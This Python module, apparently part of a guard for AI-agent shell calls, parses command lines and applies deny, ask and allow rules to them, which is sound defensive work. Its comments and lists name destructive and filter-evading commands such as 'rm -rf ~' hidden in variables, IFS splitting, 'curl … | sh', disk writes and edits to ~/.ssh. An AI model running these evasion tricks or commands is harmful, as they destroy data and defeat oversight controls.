"""The shell policy: deny/ask/allow rules over every command a line would run.

A command line is parsed (``parsing``), every simple command is looked through its wrappers
(``sudo``, ``env``, ``xargs``, ``find -exec``, ``sh -c '…'``, ``uv run`` … see ``wrappers``) and each command
found is matched against every rule; the strictest match decides for that command (deny > ask > allow),
and the line takes the strictest decision of all. In allow-list mode a command no allow rule names is
denied, and deny and ask rules still apply to those an allow rule names. What cannot be decided
statically is a *finding* (``eval``, ``$cmd``, ``curl … | sh``, code in data, parse errors …) decided by a
``detect`` rule, or ``undecidable`` (ask or deny, never allow) when no rule names it; so is an argument
only run time knows where it could make a deny or ask rule match (``rm $(echo -rf) ~``).

Arguments are matched the way the program reads them: long options by any unambiguous prefix, as GNU
getopt and git accept them (``rm --recur --forc``); paths normalized (``of=/dev//sda``) and block devices
recognized by name and by the kernel's file type (``/dev/disk/by-id/…``).

String policies are advisory: a program can always do what ``rm`` does. The kernel is the boundary.
"""

from __future__ import annotations

import dataclasses
import fnmatch
import functools
import os
import posixpath
import re
import shutil
import stat
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field

from mcp_server_guard.paths import within, within_any
from mcp_server_guard.policy import INFORMATIONAL, Action, Rule, ShellPolicy
from mcp_server_guard.shell.code_texts import literal_commands, program_text_runs
from mcp_server_guard.shell.environment import command_line_of, is_command_valued, runs_code
from mcp_server_guard.shell.interpreters import (
    FETCH_AND_RUN,
    RUNS_INPUT_LINES,
    SHELLS_OUT,
    evaluates_stdin,
    forks_repeatedly,
    hands_stdin_to_a_shell,
    interpreter_input,
)
from mcp_server_guard.shell.parsing import (
    MAX_COMMANDS,
    Command,
    Finding,
    Parsed,
    Redirect,
    TooComplex,
    Word,
    expand_braces,
    parse,
)
from mcp_server_guard.shell.run_options import NETWORK_FED, option_commands
from mcp_server_guard.shell.unknown_programs import DATA_PROGRAMS, run_texts
from mcp_server_guard.shell.wrappers import DYNAMIC, UNKNOWN, Inner, unwrap

_SEVERITY: dict[str, int] = {"allow": 0, "ask": 1, "deny": 2}
# Doubts that are only about which of the project's files a command writes: judged by their effects while
# commands work on a copy (the box keeps every other place read-only).
# On a copy, what they run or load runs in the box: `PYTHONPATH=src python -m pytest`, an arithmetic value read
# from a file (`line=$(grep -n …); sed -n "$((line+40))p"`).
EFFECT_FINDINGS = frozenset({"dynamic-redirect", "search-path", "code-in-data", "dynamic-program", "dynamic-eval"})
# Variables that only add places a program looks for its modules (the project's own, as a rule).
_SEARCH_PATHS = frozenset({"PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB", "CLASSPATH", "GOPATH"})
_MAX_DEPTH = 8
_DYNAMIC = "\x00dynamic"  # stands for an argument only run time knows; matches no glob
BLOCK_DEVICE = "<block-device>"  # what a path that names a block device also matches as

SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "fish", "csh", "tcsh", "posh", "rbash"})
INTERPRETERS = frozenset(
    {"python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "osascript",
     "pypy", "pypy3", "ipython", "ipython3", "julia", "R", "Rscript", "pwsh", "powershell", "guile",
     "racket", "sbcl", "clisp", "ghci", "runghc", "irb", "jshell", "groovy", "scala", "kotlinc", "elixir", "iex",
     "erl", "escript", "crystal", "dart", "swift"}
)  # fmt: skip
# Options that take a value, per program, so that the first positional (the subcommand) is found and
# values are not read as flags. Single-dash words of programs in SINGLE_DASH_LONG are whole option names.
VALUE_OPTIONS: dict[str, frozenset[str]] = {
    "git": frozenset({"C", "c", "git-dir", "work-tree", "namespace", "config-env", "super-prefix", "exec-path"}),
    "apt": frozenset({"o", "c", "t", "a", "option", "config-file", "target-release"}),
    "apt-get": frozenset({"o", "c", "t", "a", "option", "config-file", "target-release"}),
    "dnf": frozenset({"c", "setopt", "installroot", "releasever", "repo", "enablerepo", "disablerepo", "x"}),
    "yum": frozenset({"c", "setopt", "installroot", "releasever", "enablerepo", "disablerepo", "x"}),
    "systemctl": frozenset({"H", "M", "t", "p", "n", "o", "host", "machine", "type", "property", "lines", "output"}),
    "docker": frozenset({"H", "c", "l", "host", "context", "config", "log-level", "v", "volume", "mount", "e", "w"}),
    "kubectl": frozenset({"n", "namespace", "context", "cluster", "s", "server", "kubeconfig", "f", "filename", "l"}),
    "find": frozenset(
        {"name", "iname", "path", "ipath", "wholename", "iwholename", "regex", "iregex", "type", "xtype", "mtime",
         "mmin", "atime", "amin", "ctime", "cmin", "newer", "anewer", "cnewer", "size", "user", "group", "perm",
         "maxdepth", "mindepth", "fprint", "fprint0", "fls", "printf", "links", "samefile", "inum", "uid", "gid",
         "regextype", "context", "used", "lname", "ilname", "fstype"}
    ),
    "tar": frozenset({"f", "C", "I", "T", "X", "b", "file", "directory", "use-compress-program", "files-from",
                      "exclude-from", "to-command", "checkpoint-action", "info-script", "new-volume-script", "F",
                      "rmt-command", "rsh-command", "exclude", "transform", "owner", "group", "mode"}),
    "sort": frozenset({"o", "k", "t", "S", "T", "output", "key", "field-separator", "buffer-size",
                       "temporary-directory", "compress-program", "files0-from", "parallel"}),
    "rsync": frozenset({"e", "rsh", "exclude", "include", "filter", "f", "rsync-path", "files-from", "B", "T",
                        "temp-dir", "chmod", "chown", "backup-dir", "suffix", "password-file", "log-file"}),
    "ssh": frozenset({"b", "c", "D", "E", "e", "F", "I", "i", "J", "L", "l", "m", "O", "o", "p", "Q", "R", "S",
                      "W", "w", "B"}),
    "rg": frozenset({"e", "f", "g", "t", "T", "A", "B", "C", "m", "M", "j", "pre", "pre-glob", "glob", "type",
                     "type-not", "regexp", "file", "max-count", "context", "after-context", "before-context",
                     "replace", "r", "threads", "max-depth", "encoding", "E", "sort", "sortr"}),
    "grep": frozenset({"e", "f", "A", "B", "C", "m", "regexp", "file", "max-count", "context", "after-context",
                       "before-context", "include", "exclude", "exclude-dir", "label", "d", "D", "directories",
                       "devices", "binary-files"}),
    "tree": frozenset({"L", "P", "I", "o", "H", "T", "charset", "filelimit", "timefmt", "sort"}),
    "sed": frozenset({"e", "f", "l", "expression", "file", "line-length"}),
    "awk": frozenset({"f", "v", "F", "file", "assign", "field-separator", "i", "include", "l", "load"}),
    "date": frozenset({"d", "f", "r", "date", "file", "reference", "s", "set", "I", "iso-8601"}),
    "kill": frozenset({"s", "n"}),
    "pkill": frozenset({"u", "U", "g", "G", "P", "s", "t", "F", "euid", "uid", "group", "pgroup", "parent",
                        "session", "terminal", "pidfile", "signal"}),
    "chmod": frozenset({"reference"}),
    "chown": frozenset({"reference", "from"}),
    "truncate": frozenset({"s", "r", "size", "reference", "o"}),
    "brew": frozenset(),
    "xxd": frozenset({"c", "g", "l", "s", "o", "n", "cols", "groupsize", "len", "seek", "name"}),
}  # fmt: skip
VALUE_OPTIONS["gawk"] = VALUE_OPTIONS["mawk"] = VALUE_OPTIONS["nawk"] = VALUE_OPTIONS["awk"]
VALUE_OPTIONS["podman"] = VALUE_OPTIONS["docker"]
VALUE_OPTIONS["egrep"] = VALUE_OPTIONS["fgrep"] = VALUE_OPTIONS["grep"]
SINGLE_DASH_LONG = frozenset({"find", "openssl"})
# Paths that name a block device (what the kernel says decides too, for paths that exist here).
BLOCK_DEVICE_NAMES = (
    "/dev/sd*", "/dev/hd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/mmcblk*", "/dev/disk/**", "/dev/loop*",
    "/dev/md*", "/dev/dm-*", "/dev/mapper/*", "/dev/sr*", "/dev/root", "/dev/mtdblock*", "/dev/zd*", "/dev/zram*",
    "/dev/nbd*", "/dev/rbd*", "/dev/bcache*", "/dev/drbd*", "/dev/ram*", "/dev/block/**", "/dev/ubd*",
    "/dev/mem", "/dev/kmem", "/dev/port", "/dev/fd0", "/dev/vg*/*", "/dev/zvol/**",
)  # fmt: skip
# Writing to these is writing to the kernel or to a disk, whatever the program.
DEVICE_WRITE_TARGETS = (BLOCK_DEVICE, "/proc/sysrq-trigger", "/proc/sys/**", "/sys/**")
# Names under which a program opens its own standard input as a file: `bash -`, `sh /dev/stdin`, `python3 /dev/fd/0`.
STDIN_PATHS = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0"})
# Options that load a program or script of another language from a file, per program: given one of STDIN_PATHS
# (or a pipe, a here-doc), the program runs code this layer cannot read as shell: undecidable.
CODE_FILE_OPTIONS: dict[str, frozenset[str]] = {
    "awk": frozenset({"f", "file", "i", "include", "E", "exec"}),
    "sed": frozenset({"f", "file"}),
    "make": frozenset({"f", "file", "makefile"}),
    "gdb": frozenset({"x", "command", "ix", "init-command"}),
    "bash": frozenset({"rcfile", "init-file"}),
    "vim": frozenset({"S", "s", "u"}),
    "jq": frozenset({"f", "from-file"}),
    "lua": frozenset(),
    "tclsh": frozenset(),
    "expect": frozenset({"f"}),
    "m4": frozenset(),
    "dc": frozenset({"f", "file"}),
    "ninja": frozenset({"f"}),
    "cmake": frozenset({"P"}),
    "just": frozenset({"f", "justfile"}),
    "scons": frozenset({"f", "file", "makefile", "sconstruct"}),
    "ant": frozenset({"f", "file", "buildfile"}),
    "tcc": frozenset({"run"}),
}
for _alias, _base in (("gawk", "awk"), ("mawk", "awk"), ("nawk", "awk"), ("busybox-awk", "awk"), ("gmake", "make"),
                      ("bmake", "make"), ("nvim", "vim"), ("vi", "vim"), ("ex", "vim"), ("view", "vim"),
                      ("vimdiff", "vim")):  # fmt: skip
    CODE_FILE_OPTIONS[_alias] = CODE_FILE_OPTIONS[_base]


@dataclass(frozen=True)
class Feed:
    """What a command reads on its standard input.

    ``call``: the tool call's ``stdin`` text (``text``; None when the call gives none, so nothing); ``job``: a
    background job's stdin, written by later calls (each write is judged then); ``pipe`` (``upstream``), ``text``
    (a static here-doc or here-string), ``dynamic`` (one with expansions), ``file`` (``< file``), ``none``."""

    kind: str
    text: str | None = None
    upstream: Command | None = None


NO_FEED = Feed("none")
# The box's own places, private to each call (names compared, never opened).
# Long options that exist as written, so never an abbreviation of a longer one (`pip install --pre` is not --prefix).
_EXACT_LONGS: dict[str, frozenset[str]] = {name: frozenset({"pre", "user", "no-deps"}) for name in ("pip", "pip3")}
# Programs whose command language, read from stdin, has a way to run a shell command.
STDIN_LANGUAGES = frozenset(
    {"sqlite3", "sqlite", "ed", "red", "gdb", "cgdb", "psql", "mysql", "mariadb", "sftp", "ftp", "lftp", "expect",
     "script", "tclsh", "wish", "dc", "duckdb", "gnuplot", "lldb", "smbclient", "octave", "maxima"}
)  # fmt: skip
_DOWNLOAD_REDIRECT = re.compile(r"\b(?:curl|wget|aria2c|http|fetch)\b[^|;&\n]*?>>?\s*['\"]?([^\s'\";&|]+)")
_URL_RUNNERS = frozenset({"deno", "bun", "npx", "pnpx", "bunx", "uvx", "pipx", "go", "java", "jbang", "tcc"})
_SIGNALLERS = frozenset({"kill", "killall", "pkill", "skill", "snice"})


@dataclass(frozen=True)
class _Writes:
    """Where a program writes: values of ``options``, and its operands (``last`` or ``all``, past ``skip``, when
    one of ``when`` is given); ``values`` are its options that take a value; ``into_home``: a directory it fills."""

    options: tuple[str, ...] = ()
    operands: str = ""
    skip: int = 0
    when: tuple[str, ...] = ()
    values: frozenset[str] = frozenset()
    into_home: bool = False


_WRITERS: dict[str, _Writes] = {
    "cp": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
    "mv": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
    "install": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "m", "mode",
                                                                            "o", "owner", "g", "group"})),
    "ln": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
    "rsync": _Writes((), "last"),
    "dd": _Writes(),
    "tee": _Writes((), "all"),
    "truncate": _Writes((), "all", values=frozenset({"s", "size", "r", "reference"})),
    "sponge": _Writes((), "all"),
    "sed": _Writes((), "all", 1, ("i", "in-place"), frozenset({"e", "f", "expression", "file", "l"})),
    "perl": _Writes((), "all", 0, ("i",), frozenset({"I", "M", "m", "e", "E"})),
    "curl": _Writes(("o", "output"), values=frozenset({"o", "output"})),
    "wget": _Writes(
        ("O", "output-document", "P", "directory-prefix"),
        values=frozenset({"O", "output-document", "P", "directory-prefix"}),
    ),
    "tar": _Writes(("C", "directory"), values=frozenset({"C", "directory", "f", "file"}), into_home=True),
    "sort": _Writes(("o", "output"), values=frozenset({"o", "output", "k", "t", "S", "T"})),
    "openssl": _Writes(("out",), values=frozenset({"out", "in", "k", "pass", "passin", "passout"})),
    "gpg": _Writes(("o", "output"), values=frozenset({"o", "output", "r", "recipient", "u", "local-user"})),
    "patch": _Writes(("o", "output"), "all", values=frozenset({"o", "output", "p", "i", "input", "d", "directory"})),
    "xxd": _Writes((), "last", values=frozenset({"c", "g", "l", "s", "o", "n"})),
    "split": _Writes((), "last", values=frozenset({"a", "b", "C", "l", "n", "t"})),
    "unzip": _Writes(("d",), values=frozenset({"d"}), into_home=True),
}  # fmt: skip
_COPIERS = frozenset(_WRITERS)
_DIRECTORY_OPTIONS = ("C", "work-tree", "git-dir", "directory")
# Caches in the home directory a cleanup may empty (`rm -rf ~/.cache/pip`): not the user's work.
_CACHES = (".cache", ".npm/_cacache", ".npm/_logs", ".cargo/registry/cache", ".gradle/caches", ".m2/repository",
           ".pnpm-store", ".yarn/cache", ".local/share/virtualenvs")  # fmt: skip
_BOXED_PRIVATE = ("/tmp/", "/var/tmp/", "/dev/shm/", "/dev/null")  # noqa: S108
REMOTE = Feed("remote")  # the command runs in a container or on another host: its shell is not an escape here
_ELSEWHERE = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "ssh", "rsh", "lxc", "incus"})
# Denied programs whose bare name, among an unknown program's arguments, is taken for the command it runs.
_PAYLOAD_NAMES = frozenset({"rm", "dd", "shred", "shutdown", "reboot", "poweroff", "halt", "wipefs", "mkfs"})


@dataclass(frozen=True)
class Verdict:
    """The decision for a whole line, the rule that made it, and what the parser saw."""

    action: Action
    rule: str | None
    reason: str
    trigger: str  # the command (or finding) that decided
    commands: tuple[str, ...] = ()
    redirects: tuple[Redirect, ...] = ()
    findings: tuple[Finding, ...] = ()
    asking: tuple[str, ...] = ()  # every rule that asks about some command of the line (the verdict names one)
    # What reads the call's (or the job's) standard input as program text: "" (nothing: stdin is data), "shell",
    # an interpreter's name, or "opaque:<program>" (code this layer cannot read). A job's later stdin is judged so.
    stdin_code: str = ""


@dataclass
class Args:
    """One command's arguments as its program reads them."""

    shorts: set[str] = field(default_factory=set)  # single letters: -rf is r and f
    longs: set[str] = field(default_factory=set)  # whole names as written: --force, find's -delete
    abbreviable: set[str] = field(default_factory=set)  # --names, which getopt also takes by a unique prefix
    values: dict[str, list[str]] = field(default_factory=dict)
    positionals: list[str] = field(default_factory=list)
    dynamic: bool = False  # some argument is only known at run time
    arg_forms: list[str] = field(default_factory=list)  # every argument's forms (_forms), computed once
    target_forms: list[str] = field(default_factory=list)  # every positional's forms

    def has(self, flag: str) -> bool:
        if len(flag) == 1:
            return flag in self.shorts
        return flag in self.longs or any(flag.startswith(name) for name in self.abbreviable)

    def values_of(self, option: str) -> list[str]:
        found = list(self.values.get(option, []))
        if len(option) > 1:
            for name, values in self.values.items():
                if name != option and name in self.abbreviable and option.startswith(name):
                    found += values
        return found


def parse_args(program: str, args: Sequence[str], more_values: frozenset[str] = frozenset()) -> Args:
    """Split arguments into flags (short letters, long names), option values and positionals (``more_values``:
    options that take a value besides those ``VALUE_OPTIONS`` names)."""
    takes_value = VALUE_OPTIONS.get(program, frozenset()) | more_values
    out = Args(dynamic=_DYNAMIC in args)
    single_dash_long = program in SINGLE_DASH_LONG
    i = 0
    while i < len(args):
        arg = args[i]
        i += 1
        if arg == "--":
            out.positionals.extend(args[i:])
            break
        if program in _SIGNALLERS and re.fullmatch(r"-(?:SIG)?[A-Z][A-Z0-9+-]*|-\d+", arg) and arg != "-1":
            out.values.setdefault("signal", []).append(arg[1:])  # killall -USR1: a signal, not -U -S -R -1
            continue
        if program == "kill" and arg.startswith("-") and (out.shorts or out.longs or out.values):
            out.positionals.append(arg)  # kill -9 -1: after the signal, -1 is a process (every process)
            continue
        if program in ("find", "fd", "fdfind") and arg in ("-exec", "-execdir", "-ok", "-okdir"):
            out.longs.add(arg[1:])
            end = next((j for j in range(i, len(args)) if args[j] in (";", "+", r"\;")), len(args))
            out.values.setdefault(arg[1:], []).append(posixpath.basename(args[i]) if i < len(args) else "")
            i = end + 1
            continue
        if arg.startswith("--") and len(arg) > 2:
            name, eq, value = arg[2:].partition("=")
            out.longs.add(name)
            if name not in _EXACT_LONGS.get(program, ()):
                out.abbreviable.add(name)
            if eq:
                out.values.setdefault(name, []).append(value)
            elif _takes_value(name, takes_value) and i < len(args):
                out.values.setdefault(name, []).append(args[i])
                i += 1
            continue
        if arg.startswith("-") and len(arg) > 1 and arg != _DYNAMIC:
            letters = arg[1:]
            out.longs.add(letters)  # single-dash long options: find -delete, java -jar
            if single_dash_long:
                if program == "find" and letters.startswith("newer"):
                    out.longs.add("newer")  # -newermt DATE, -neweraa FILE: a time test like -newer
                if (letters in takes_value or (program == "find" and letters.startswith("newer"))) and i < len(args):
                    out.values.setdefault(letters, []).append(args[i])
                    i += 1
                continue
            for pos, letter in enumerate(letters):
                out.shorts.add(letter)
                if letter in takes_value:
                    value = letters[pos + 1 :]
                    if not value and i < len(args):
                        value = args[i]
                        i += 1
                    out.values.setdefault(letter, []).append(value)
                    break
            continue
        out.positionals.append(arg)
    out.arg_forms = [form for arg in args for form in _forms(arg)]
    out.target_forms = [form for arg in out.positionals for form in _forms(arg)]
    return out


def _takes_value(name: str, takes_value: frozenset[str]) -> bool:
    if name in takes_value:
        return True
    candidates = [option for option in takes_value if len(option) > 1 and option.startswith(name)]
    return len(candidates) == 1  # an unambiguous abbreviation of an option that takes a value


def normalize_path(value: str) -> str:
    """A path as the kernel resolves its spelling: // and /./ collapse, a/.. goes, ~/ stays ~."""
    if value in ("", _DYNAMIC) or ("/" not in value and value not in (".", "..", "~")):
        return value
    home = value == "~" or value.startswith("~/")
    body = value[1:] if home else value
    if not body:
        return "~"
    normal = posixpath.normpath(body)
    if normal.startswith("//"):
        normal = "/" + normal.lstrip("/")
    if home:
        return "~" if normal in ("/", ".") else "~" + (normal if normal.startswith("/") else "/" + normal)
    return normal


@functools.lru_cache(maxsize=1024)
def is_block_device(path: str) -> bool:
    """Does ``path`` (normalized) name a block device or kernel memory: by name, or by its file type here?"""
    if not path.startswith("/dev/"):
        return False
    if any(_path_match(path, pattern) for pattern in BLOCK_DEVICE_NAMES):
        return True
    try:
        return stat.S_ISBLK(os.stat(path).st_mode)
    except FileNotFoundError:
        # A device this machine does not have (`of=/dev/usb_drive`): anything but the everyday character devices
        # is taken for a disk.
        return not any(_path_match(path, pattern) for pattern in _CHARACTER_DEVICES)
    except (OSError, ValueError):
        return False


_CHARACTER_DEVICES = (
    "/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty*", "/dev/pts/**", "/dev/ptmx",
    "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/fd/**", "/dev/shm/**", "/dev/console", "/dev/log",  # noqa: S108
    "/dev/mqueue/**", "/dev/hugepages/**", "/dev/kvm", "/dev/net/tun", "/dev/fuse", "/dev/snd/**", "/dev/dri/**",
    "/dev/video*", "/dev/input/**", "/dev/serial/**", "/dev/usb/**", "/dev/bus/**", "/dev/cpu/**", "/dev/rtc*",
)  # fmt: skip
# Writing these (by a redirect, tee or truncate) changes the machine or a shell's start-up: never an agent's call.
SYSTEM_FILES = (
    "/etc/**", "/boot/**", "/usr/**", "/bin/**", "/sbin/**", "/lib/**", "/lib64/**", "/lib32/**", "/root/**",
    "/var/lib/**", "/var/spool/**", "~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.bash_logout",
    "~/.bash_history", "~/.profile", "~/.zshrc", "~/.zshenv", "~/.zprofile", "~/.zlogin", "~/.ssh/**",
    "~/.config/autostart/**", "~/.config/systemd/**", "~/.gitconfig", "~/.config/git/**", "~/.local/bin/**",
    "~/.config/fish/**", "~/.bashrc.d/**", "~/.config/environment.d/**", "~/.local/lib/**", "~/.vimrc", "~/.vim/**",
    "~/.config/nvim/**", "~/.pythonrc", "~/.pythonstartup", "~/.config/pip/**", "~/.pip/**", "/opt/**",
)  # fmt: skip


def _forms(arg: str) -> list[str]:
    """What an argument matches as: itself, its normalized path, and <block-device> for a disk."""
    forms = [arg]
    prefix, path = "", arg
    found = re.match(r"-{0,2}[A-Za-z_][\w-]*=", arg)
    if found and "/" in arg[found.end() :]:
        prefix, path = found.group(), arg[found.end() :]
    if "/" in path or path in ("~", ".", ".."):
        normal = normalize_path(path)
        if normal != path:
            forms.append(prefix + normal)
        if is_block_device(normal):
            forms.append(prefix + BLOCK_DEVICE)
    return forms


@functools.lru_cache(maxsize=512)
def _path_pattern(pattern: str) -> re.Pattern[str]:
    """A path glob: * and ? stay within one component, ** spans components, [..] is a class, \\x literal."""
    out: list[str] = []
    i = 0
    while i < len(pattern):
        ch = pattern[i]
        if ch == "*" and pattern.startswith("**", i):
            out.append(".*")
            i += 2
        elif ch == "*":
            out.append("[^/]*")
            i += 1
        elif ch == "?":
            out.append("[^/]")
            i += 1
        elif ch == "[" and "]" in pattern[i + 2 :]:
            end = pattern.index("]", i + 2)
            body = pattern[i + 1 : end]
            out.append("[" + ("^" + body[1:] if body.startswith("!") else body).replace("\\", "\\\\") + "]")
            i = end + 1
        elif ch == "\\" and i + 1 < len(pattern):
            out.append(re.escape(pattern[i + 1]))
            i += 2
        else:
            out.append(re.escape(ch))
            i += 1
    return re.compile("".join(out), re.DOTALL)


def _path_match(value: str, pattern: str) -> bool:
    return _path_pattern(pattern).fullmatch(value) is not None


def _glob(value: str, patterns: Sequence[str], *, fold: bool = False) -> bool:
    if fold:
        value = value.lower()
    return any(fnmatch.fnmatchcase(value, p.lower() if fold else p) for p in patterns)


@functools.lru_cache(maxsize=256)
def _regex(pattern: str) -> re.Pattern[str]:
    return re.compile(pattern)


def rule_matches(rule: Rule, argv: Sequence[str], parsed: Args | None = None, *, wildcard: bool = False) -> bool:
    """Does ``rule`` match one effective command (argv[0] is the program's path or name)?

    With ``wildcard``, an argument only run time knows is taken to be whatever would make the rule match:
    the question is then whether the command *could* match."""
    program = posixpath.basename(argv[0])
    if not _glob(program, rule.programs):
        return False
    args = list(argv[1:])
    if parsed is None:
        parsed = parse_args(program, args)
    free = wildcard and parsed.dynamic
    if rule.subcommands:
        first = parsed.positionals[0] if parsed.positionals else None
        if not (first in rule.subcommands or (free and (first is None or first == _DYNAMIC))):
            return False
    if not free and any(not any(parsed.has(flag) for flag in group) for group in rule.flags):
        return False
    if any(parsed.has(flag) for flag in rule.without):
        return False
    if len(parsed.positionals) < rule.min_positionals and not free:
        return False
    if rule.args and not (free or any(_glob(form, rule.args) for form in parsed.arg_forms)):
        return False
    if rule.args_regex and not (
        free or any(_regex(p).search(a) for a in args if a != _DYNAMIC for p in rule.args_regex)
    ):
        return False
    if rule.targets and not (
        free or any(_path_match(form, pattern) for form in parsed.target_forms for pattern in rule.targets)
    ):
        return False
    return (
        not rule.option_values
        or (free and any(parsed.has(option) for option in rule.option_values))
        or any(
            _glob(form, patterns, fold=True)
            for option, patterns in rule.option_values.items()
            for value in parsed.values_of(option)
            for form in _forms(value)
        )
    )


@dataclass
class _Found:
    """One effective command, or one finding, with where it came from."""

    argv: list[str] | None
    text: str
    finding: Finding | None = None
    moved: bool = False  # the line changed directory to a place outside the project before it


class _Expander:
    """Looks through wrappers, shell strings and assignments to the commands that would really run."""

    def __init__(self, env: Mapping[str, str], base_path: str, known: frozenset[str] = frozenset()) -> None:
        self.known = known  # programs the policy's rules name: judged by those rules, not looked through
        self.known_runs: frozenset[str] = frozenset()  # programs a deny rule names: a disguise's usual payload
        self.found: list[_Found] = []
        self.redirects: list[Redirect] = []
        self.env = env  # the call's own variables (already checked against the refused names)
        self.base_path = base_path
        self.stdin_code = ""  # what reads the call's or job's stdin as program text (Verdict.stdin_code)
        self.fetches = False  # the line downloads something (curl, wget …): what it builds at run time may be that
        self.reaches_outside: Callable[[list[str]], bool] = lambda _args: False
        self.home_path = ""  # what ~ names, spelled out
        self.downloaded: set[str] = set()  # files the line downloads (curl -o, wget)
        self.aliases: dict[str, str] = {}  # aliases the line defines
        self.moved = False  # the line has changed directory to a place outside the project (cd ~, cd /, cd ..)

    def finding(self, kind: str, detail: str) -> None:
        self.found.append(_Found(None, detail, Finding(kind, detail)))

    def line(self, source: str, depth: int, feed: Feed = NO_FEED) -> None:
        """Every command of ``source``; ``feed`` is what the line's own stdin is (its commands inherit it)."""
        if depth > _MAX_DEPTH:
            self.finding("too-deep", "shell strings nested too deeply to analyse")
            return
        parsed: Parsed = parse(source)
        self.fetches = self.fetches or _FETCHES.search(source) is not None
        for found in _DOWNLOAD_REDIRECT.finditer(source):  # `curl -s URL > i.sh; bash i.sh`
            self.downloaded.add(posixpath.normpath(found.group(1)))
        self.redirects.extend(parsed.redirects)
        for redirect in parsed.redirects:
            target = redirect.target.static
            if redirect.writes and target is None:
                self.finding("dynamic-redirect", f"redirect target {redirect.target.raw!r} is only known at run time")
            elif redirect.writes and target is not None and _writes_device(target):
                self.finding("device-write", f"'{redirect.op} {redirect.target.raw}' writes to a disk or the kernel")
            elif redirect.writes and target is not None and _system_file(target):
                self.finding(
                    "system-write", f"'{redirect.op} {redirect.target.raw}' writes a file of the system or the shell"
                )
            elif redirect.writes and target not in ("/dev/null", "/dev/stdout", "/dev/stderr"):
                self.finding("write-redirect", f"'{redirect.op} {redirect.target.raw}' writes a file")
        for item in parsed.findings:
            self.found.append(_Found(None, item.detail, item))
        if parsed.evaluates_run_time:
            self._stdin_substitutions(feed, depth)  # `read n; (( n ))` fed `a[$(shutdown -h now)]`
        for code in parsed.evaluated_code:
            self.line(": " + code, depth + 1)  # x='a[$(rm -rf ~)]'; $((x)) runs rm: judge what it runs
        for name in sorted(parsed.evaluated_from_env & set(self.env)):
            if re.search(r"[$`]", self.env[name]):
                self.finding("code-in-data", f"${name} from the call's env is evaluated as code")
        # Threat: `IFS=,; c=rm,-rf,x; $c`. The parser splits a variable's known value on blanks; with IFS set in
        # the line bash splits it on other characters, so such words are only known at run time.
        # Threat: `IFS=_ x=1 c=shutdown_-h_now; $c`, `IFS+=_`, `read IFS`, `declare -n r=c; c='rm -rf ~'; $r`: once IFS
        # changes (other than for one `read`) or a name refers to another, unquoted expansions are run-time words.
        ifs = bool(re.search(r"\bIFS\b", _READ_IFS.sub("", source))) or _NAMEREF.search(source) is not None
        if _SPAWNS_FOREVER.search(source):
            self.finding("fork-bomb", "an endless loop starts a background process each time round")
        for command in parsed.commands:
            if command.words and command.words[0].value == "exec" and len(command.words) == 1:
                # `exec <<< '…'; bash`: exec with only redirections gives the rest of the line that stdin.
                feed = _feed_of(command, feed)
            if ifs:
                command.words = [
                    Word(None, w.raw, split=True) if w.split or w.raw.startswith("$") else w for w in command.words
                ]
            self.command(command, depth, _feed_of(command, feed))

    def command(self, command: Command, depth: int, feed: Feed = NO_FEED) -> None:
        if command.assignments:
            reads = bool(command.words) and command.words[0].value in ("read", "mapfile", "readarray")
            # `while IFS= read -r line`: IFS set for the read builtin only decides how it splits a line of data.
            self.assignments([(n, w) for n, w in command.assignments if not (reads and n == "IFS")], depth)
        words = command.words
        if not words:
            return
        if any(w.prompt_expansion for w in words):
            self.finding("prompt-expansion", "${var@P} expands a value like a prompt (it can run commands)")
        declares = words[0].value in ("export", "declare", "typeset", "local", "readonly")
        path_word = None if declares else next((w for name, w in command.assignments if name == "PATH"), None)
        if path_word is not None and path_word.value is None:
            self.finding("path-override", "PATH is set to a value only known at run time")
        self.argv(words, command, depth, path=path_word.value if path_word is not None else None, feed=feed)

    def assignments(self, assignments: Sequence[tuple[str, Word]], depth: int) -> None:
        """Threat: `LESSOPEN='|sh x' less f`, `GIT_CONFIG_COUNT=… git …`, `LD_PRELOAD=… x` — variables that
        make the program run other code, set for one command."""
        for name, word in assignments:
            if is_command_valued(name):
                self.finding("command-variable", f"{name}=… names a program that will be run")
                if word.value is None:
                    self.finding("dynamic-shell-string", f"{name} names a command only known at run time")
                elif word.value:
                    self.line(command_line_of(name, word.value), depth + 1)
            elif runs_code(name):
                kind = "search-path" if name in _SEARCH_PATHS else "env-code"
                self.finding(kind, f"{name}=… makes the program load code or settings chosen here")

    def argv(
        self,
        words: Sequence[Word],
        command: Command | None,
        depth: int,
        path: str | None = None,
        feed: Feed = NO_FEED,
    ) -> None:
        if not words:
            return
        # Threat: r``m -rf ~ — bash runs the (empty) command substitution; a word holding a backtick that bash
        # would take for one is only known at run time.
        words = [Word(None, w.raw) if "`" in (w.value or "") and "`" in w.raw.replace("\\`", "") and not
                 w.raw.startswith("'") else w for w in words]  # fmt: skip
        head = words[0]
        text = command.text if command is not None else " ".join(w.raw for w in words)
        if head.split and head.value is not None and len(head.value.split()) > 1:
            # Threat: `x='rm -rf ~'; $x` — bash splits the value into words: the first is the program.
            split = head.value.split()
            words = [Word(split[0], head.raw), *(Word(part, head.raw) for part in split[1:]), *words[1:]]
            head = words[0]
        if head.static is None:
            # `$PYTHON -m pytest`, `"$(go env GOPATH)/bin/lint"`: on a copy, judged by what it does; one split by a
            # changed IFS or fed by a download stays undecidable.
            static = [w.value for w in words[1:] if w.value is not None]
            outside = self.reaches_outside(static)  # `$(echo rm) -rf ~`: whatever runs, it acts outside
            kind = "dynamic-command" if head.split or self.fetches or outside else "dynamic-program"
            self.finding(kind, f"the program name {head.raw!r} is only known at run time")
